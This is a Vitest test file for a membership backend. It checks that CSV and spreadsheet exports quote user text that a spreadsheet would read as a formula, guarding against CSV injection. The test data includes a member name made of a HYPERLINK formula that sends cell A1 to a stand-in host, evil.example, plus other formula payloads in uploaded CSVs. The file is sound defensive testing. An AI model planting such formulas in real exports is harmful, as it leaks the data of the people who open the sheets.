import { setTimeout as sleep } from 'node:timers/promises';
import {
  DeviceImportPaths,
  MemberPaths,
  OrderPaths,
  PointsPaths,
  type DeviceImportBatch,
  type ShipBatch,
} from '@health/contract';
import { describe, expect, it } from 'vitest';
import { spreadsheetSafeText } from '../src/platform/export.js';
import { databaseKinds } from './helpers/databases.js';
import {
  bearer,
  bodyOf,
  call,
  exportRows,
  loginAdmin,
  setupApp,
  type TestApp,
} from './helpers/app.js';
import { insertGrade, insertMember } from './helpers/member-admin.js';

/**
 * Exports never hand a spreadsheet a formula it did not write: user text starting with = + - @,
 * a tab or a CR comes out behind a single quote (OWASP "CSV injection"), in every export, the
 * import error files and the shipping result included; numbers stay numbers.
 */

describe('spreadsheetSafeText', () => {
  it('quotes what a spreadsheet would take for a formula, and nothing else', () => {
    expect(spreadsheetSafeText('=HYPERLINK("http://x","y")')).toBe(`'=HYPERLINK("http://x","y")`);
    expect(spreadsheetSafeText('+1+1')).toBe("'+1+1");
    expect(spreadsheetSafeText('-1+1')).toBe("'-1+1");
    expect(spreadsheetSafeText('@SUM(1)')).toBe("'@SUM(1)");
    expect(spreadsheetSafeText('\t=1')).toBe("'\t=1");
    expect(spreadsheetSafeText('\r=1')).toBe("'\r=1");
    // Plain text, a number written as text and a lone dash are no formula.
    for (const text of ['张三', 'a=b', '', '-5', '+3.5', '-', '2025-01-01', "'quoted"])
      expect(spreadsheetSafeText(text)).toBe(text);
  });
});

function multipart(filename: string, content: Buffer) {
  const boundary = `----inject${Math.random().toString(16).slice(2)}`;
  const payload = Buffer.concat([
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\n` +
        'Content-Type: application/octet-stream\r\n\r\n',
    ),
    content,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

describe.each(databaseKinds)('exports on %s', (kind) => {
  let t: TestApp;
  let admin: string;
  let memberId: number;
  const evilName = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';

  setupApp(kind, async (app) => {
    t = app;
    admin = await loginAdmin(t);
    const gradeId = await insertGrade(t, { name: '普通会员', growth: 0 });
    memberId = await insertMember(t, { gradeId, name: evilName });
  });

  const upload = async (path: string, filename: string, content: Buffer) => {
    const { payload, headers } = multipart(filename, content);
    return t.app.inject({
      method: 'POST',
      url: t.api(path),
      headers: { ...headers, ...bearer(admin) },
      payload,
    });
  };

  it('a member named =HYPERLINK(...) comes out as text behind a quote', async () => {
    const response = await call(t, 'GET', MemberPaths.export, { token: admin });
    expect(response.statusCode).toBe(200);
    const rows = await exportRows(response);
    const nameColumn = rows[0]!.indexOf('姓名');
    expect(rows[1]?.[nameColumn]).toBe(`'${evilName}`);
  });

  it('a ledger reason -1+1 is quoted; the negative amount stays a number', async () => {
    for (const [amount, reason] of [
      [10, '-1+1'],
      [-3, '@SUM(1)'],
    ] as const) {
      const adjusted = await call(t, 'POST', PointsPaths.adjust, {
        token: admin,
        json: { memberId, amount, reason },
      });
      expect(bodyOf(adjusted).state).toBe(200);
    }
    const rows = await exportRows(await call(t, 'GET', PointsPaths.ledgerExport, { token: admin }));
    const [header, ...data] = rows;
    const at = (name: string) => header!.indexOf(name);
    const byReason = new Map(data.map((r) => [r[at('备注')], r]));
    expect(byReason.get("'-1+1")?.[at('变动积分')]).toBe(10);
    expect(byReason.get("'@SUM(1)")?.[at('变动积分')]).toBe(-3);
    expect(data.map((r) => r[at('会员')])).toEqual([`'${evilName}`, `'${evilName}`]);
  });

  it('the device import error file echoes @SUM(1) behind a quote', async () => {
    const csv = '序列号,型号,固件版本,入库日期,备注\n@SUM(1),=1+1,+v1,2025-01-01,-2+3\n';
    const body = bodyOf<DeviceImportBatch>(
      await upload(DeviceImportPaths.upload, 'evil.csv', Buffer.from(csv)),
    );
    expect(body.state, body.msg).toBe(200);
    let batch = body.data;
    while (batch.status === 'validating') {
      await sleep(10);
      batch = bodyOf<DeviceImportBatch>(
        await call(t, 'GET', DeviceImportPaths.detail, { token: admin, query: { id: batch.id } }),
      ).data;
    }
    expect(batch).toMatchObject({ status: 'validated', invalid: 1 });
    const rows = await exportRows(
      await call(t, 'GET', DeviceImportPaths.errors, { token: admin, query: { id: batch.id } }),
    );
    expect(rows[1]?.slice(0, 5)).toEqual(["'@SUM(1)", "'=1+1", "'+v1", '2025-01-01', "'-2+3"]);
    // The original row number stays a number.
    expect(rows[1]?.[6]).toBe(2);
  });

  it('the shipping result file echoes its cells behind a quote', async () => {
    const csv = '订单号,快递公司,快递单号\n=1+1,@SUM(1),-2+3\n';
    const checked = bodyOf<ShipBatch>(
      await upload(OrderPaths.shipCheck, 'ship.csv', Buffer.from(csv)),
    );
    expect(checked.state, checked.msg).toBe(200);
    const rows = await exportRows(
      await call(t, 'GET', OrderPaths.shipResult, { token: admin, query: { id: checked.data.id } }),
    );
    expect(rows[1]?.slice(0, 3)).toEqual(["'=1+1", "'@SUM(1)", "'-2+3"]);
  });
});
